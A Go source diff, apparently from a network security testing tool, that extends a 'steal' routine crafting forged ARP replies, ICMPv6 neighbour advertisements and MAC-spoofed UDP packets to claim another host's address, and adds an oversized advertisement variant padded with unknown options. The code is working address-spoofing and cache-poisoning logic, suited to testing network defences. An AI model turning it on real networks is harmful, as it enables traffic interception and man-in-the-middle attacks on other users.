@@ -213,8 +213,12 @@ func steal(ctx context.Context, a *attempt) error {
 		case "ARP":
 			b := a.arp(2, a.claim)
 			err = a.wire.send(ethernet(a.next, a.wire.mac, unix.ETH_P_ARP, b))
-		case "neighbour advertisement":
-			_, b := icmp(a.claim, a.to, 136, 0, 0x20000000, append(a.over.AsSlice(), macOption(2, a.wire.mac)...))
+		case "neighbour advertisement", "long neighbour advertisement":
+			body := append(a.over.AsSlice(), macOption(2, a.wire.mac)...)
+			if a.Detail[0] == 'l' { // longer than any that is honest
+				body = append(body, slices.Repeat(unknownOption(a.Token), 8)...)
+			}
+			_, b := icmp(a.claim, a.to, 136, 0, 0x20000000, body)
 			err = a.send(ipPacket{src: a.claim, dst: a.to, proto: unix.IPPROTO_ICMPV6, hop: 255, payload: b})
 		case "hardware address": // Mine is the victim's: the bridge is to learn that it is here
 			err = a.send(a.packet(unix.IPPROTO_UDP, a.udp()))
